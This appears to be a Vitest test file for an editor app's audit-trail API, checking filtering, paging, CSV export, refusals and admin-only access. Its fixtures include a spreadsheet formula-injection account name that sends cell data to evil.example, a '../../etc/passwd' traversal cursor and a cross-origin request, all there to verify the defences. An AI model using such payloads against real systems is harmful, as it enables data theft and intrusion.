import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import { readAccounts, writeAccounts } from '../../server/editor-access/accounts-file.ts'
import { createAuditFileTrail } from '../../server/editor-access/audit-file-trail.ts'
import { accountsFileWith, HOST, ORIGIN, PASSWORD, postSignIn, signedIn } from './support/editor-access-app.ts'
import { builtEditorStandIn, productionEditorApp } from './support/production-editor-app.ts'

/** The audit API behind the real sign-in, over a trail in a file: filters, paging, the CSV, refusals, and no secret kept. */
let app: Awaited<ReturnType<typeof productionEditorApp>>
let admin: Awaited<ReturnType<typeof signedIn>>
let auditDir: string
const WRONG_PASSWORD = 'this wrong password must never be kept'
/** Typed as an account name by a stranger (the sign-in keeps names in lower case), to run in the spreadsheet of whoever opens the export. */
const FORMULA = '=hyperlink("http://evil.example/?"&a1,"click")'

beforeAll(async () => {
  const accountsFile = await accountsFileWith({ asha: PASSWORD, ben: 'ben has a long password', cara: 'cara has a long password' })
  const accounts = await readAccounts(accountsFile)
  await writeAccounts(accountsFile, { ...accounts, ben: { ...accounts.ben!, role: 'publisher' }, cara: { ...accounts.cara!, role: 'editor' } })
  auditDir = fs.mkdtempSync(path.join(os.tmpdir(), 'audit-api-'))
  app = await productionEditorApp(builtEditorStandIn(), { auditTrail: createAuditFileTrail(auditDir), accountsFile })
  await postSignIn(app.http, { account: 'ben', password: WRONG_PASSWORD })
  await postSignIn(app.http, { account: FORMULA, password: WRONG_PASSWORD })
  admin = await signedIn(app.http)
  const rollback = await app.http
    .post('/_editor/api/versions/v1/rollback')
    .set('Host', HOST)
    .set('Origin', ORIGIN)
    .set('Cookie', admin.cookie)
    .set('X-CSRF-Token', admin.csrfToken)
    .send({})
  if (rollback.status !== 200) throw new Error(`rollback answered ${rollback.status}`)
}, 60_000)

const get = (address: string, cookie = admin.cookie) => app.http.get(address).set('Host', HOST).set('Cookie', cookie)
type Listed = { entries: Array<{ id: string; at: string; event: string; account: string; address: string; details: Record<string, unknown> }>; next?: string }
const list = async (query = '') => (await get(`/_editor/api/audit${query}`)).body as Listed

describe('the audit API', () => {
  it('lists every event newest first: who, what, from where and when', async () => {
    const { entries } = await list()
    expect(entries.map((entry) => `${entry.event} ${entry.account}`)).toEqual(['rollback asha', 'sign-in asha', `sign-in-failed ${FORMULA}`, 'sign-in-failed ben'])
    expect(entries[0]).toMatchObject({ details: { version: 'v2', rollbackOf: 'v1' } })
    expect(entries[3]).toMatchObject({ details: { reason: 'wrong-password' } })
    for (const entry of entries) expect(entry.address).toMatch(/127\.0\.0\.1|::1/)
    expect(Date.now() - Date.parse(entries[0]!.at)).toBeLessThan(10 * 60_000)
  })

  it('filters by account, event, address and time, and pages through a cursor', async () => {
    expect((await list('?account=ben')).entries.map((entry) => entry.event)).toEqual(['sign-in-failed'])
    expect((await list('?event=sign-in-failed')).entries.map((entry) => entry.account)).toEqual([FORMULA, 'ben'])
    expect((await list('?address=203.0.113.')).entries).toEqual([])
    const future = new Date(Date.now() + 3_600_000).toISOString()
    expect((await list(`?from=${future}`)).entries).toEqual([])
    expect((await list(`?to=${future}&event=rollback`)).entries).toHaveLength(1)
    const first = await list('?limit=3')
    expect(first.entries).toHaveLength(3)
    const second = await list(`?limit=3&cursor=${first.next}`)
    expect(second.entries.map((entry) => entry.account)).toEqual(['ben'])
    expect(second.next).toBeUndefined()
  })

  it('refuses filters it cannot read, in words', async () => {
    for (const [query, words] of [
      ['?from=yesterday', '"from" is not a date and time'],
      [`?from=2026-03-02&to=2026-03-01`, '"from" is after "to"'],
      ['?cursor=../../etc/passwd', 'The cursor is not one this server gave'],
      ['?limit=0', 'between 1 and 200'],
      ['?limit=100000', 'between 1 and 200'],
      [`?account=${'a'.repeat(201)}`, 'at most 200 characters'],
      ['?account=a&account=b', 'Filter by one account'],
    ]) {
      const answer = await get(`/_editor/api/audit${query}`)
      expect([answer.status, answer.body.message]).toEqual([400, expect.stringContaining(words!)])
    }
  })

  it('exports the filtered entries as CSV with a header row, every cell quoted and a formula shown as text', async () => {
    const answer = await get('/_editor/api/audit.csv?event=sign-in-failed')
    expect(answer.status).toBe(200)
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(answer.headers['content-disposition']).toContain('audit-trail.csv')
    const lines = answer.text
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
    expect(lines[0]).toBe('time,event,account,address,details')
    expect(lines).toHaveLength(3)
    expect(lines[1]).toContain(`"'=hyperlink(""http://evil.example/?""&a1,""click"")"`)
    expect(lines[2]).toMatch(/^"[0-9T:.-]+Z","sign-in-failed","ben","[^"]+","reason=wrong-password"$/)
  })

  it('never keeps a password: a wrong one typed at the sign-in is nowhere in the trail', async () => {
    const kept = fs
      .readdirSync(auditDir)
      .map((name) => fs.readFileSync(path.join(auditDir, name), 'utf8'))
      .join('\n')
    expect(kept).toContain('sign-in-failed')
    expect(kept).not.toContain(WRONG_PASSWORD)
    expect(kept).not.toContain(PASSWORD)
    expect(kept).not.toContain(admin.csrfToken)
    expect(kept).not.toContain(admin.cookie.split('=')[1])
    expect((await get('/_editor/api/audit.csv')).text).not.toContain(WRONG_PASSWORD)
  })

  it('answers admins only: no session, a publisher, an editor and a change from another site are refused, and nothing is read', async () => {
    const signedOut = await app.http.get('/_editor/api/audit').set('Host', HOST)
    expect([signedOut.status, signedOut.body.error]).toEqual([401, 'not_signed_in'])
    expect((await app.http.get('/_editor/api/audit.csv').set('Host', HOST)).status).toBe(401)
    for (const [account, password] of [
      ['ben', 'ben has a long password'],
      ['cara', 'cara has a long password'],
    ] as const) {
      const { cookie } = await signedIn(app.http, account, password)
      for (const address of ['/_editor/api/audit', '/_editor/api/audit.csv']) {
        const refused = await get(address, cookie)
        expect([refused.status, refused.body.error]).toEqual([403, 'role'])
        expect(refused.body.message).toContain('only admins may read the audit trail')
        expect(refused.text).not.toContain('sign-in-failed')
      }
    }
    const crossSite = await app.http
      .post('/_editor/api/audit')
      .set('Host', HOST)
      .set('Cookie', admin.cookie)
      .set('Origin', 'https://evil.example')
      .set('X-CSRF-Token', admin.csrfToken)
    expect([crossSite.status, crossSite.body.error]).toEqual([403, 'cross_origin'])
    const posted = await app.http.post('/_editor/api/audit').set('Host', HOST).set('Cookie', admin.cookie).set('Origin', ORIGIN).set('X-CSRF-Token', admin.csrfToken)
    expect([posted.status, posted.headers.allow]).toEqual([405, 'GET'])
  })
})
